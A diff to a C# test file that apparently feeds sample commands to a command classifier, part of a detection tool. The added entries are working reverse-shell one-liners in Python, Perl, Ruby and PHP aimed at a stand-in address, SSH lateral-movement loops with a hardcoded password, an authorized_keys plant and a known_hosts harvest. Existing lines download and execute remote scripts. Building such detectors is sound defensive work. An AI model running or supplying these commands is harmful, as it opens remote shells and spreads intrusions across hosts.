@@ -121,6 +121,14 @@ namespace B64Hunt.Tests.Classification
             ["exec-download-substitution"] = "source <(curl -s http://x/env.sh)",
             ["exec-download-chmod-run"] = "tftp -g -r x 198.51.100.7; chmod 777 x; ./x",
             ["exec-download-run-script"] = "curl -o /dev/shm/a.py http://x/a.py && python3 /dev/shm/a.py",
+            ["revshell-python-code"] = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
+            ["revshell-perl-code"] = "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
+            ["revshell-ruby-code"] = "f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
+            ["revshell-php-code"] = "$sock=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
+            ["lateral-ssh-host-variable"] = "for h in $(cat /tmp/hosts); do sshpass -p Winter2024 ssh -o StrictHostKeyChecking=no root@$h 'id'; done",
+            ["lateral-ssh-key-plant"] = "for h in $(cat hosts); do ssh $h \"echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys\"; done",
+            ["lateral-host-harvest"] = "awk '{print $1}' ~/.ssh/known_hosts | sort -u",
+            ["config-file-write"] = "printf 'daily\\nrotate 7\\ncompress\\n' > /etc/logrotate.d/shop-api",
         };
 
         public static IEnumerable<object[]> RuleIds() => CommandClassifierTests.Bundled.Rules.Select(r => new object[] { r.Id });
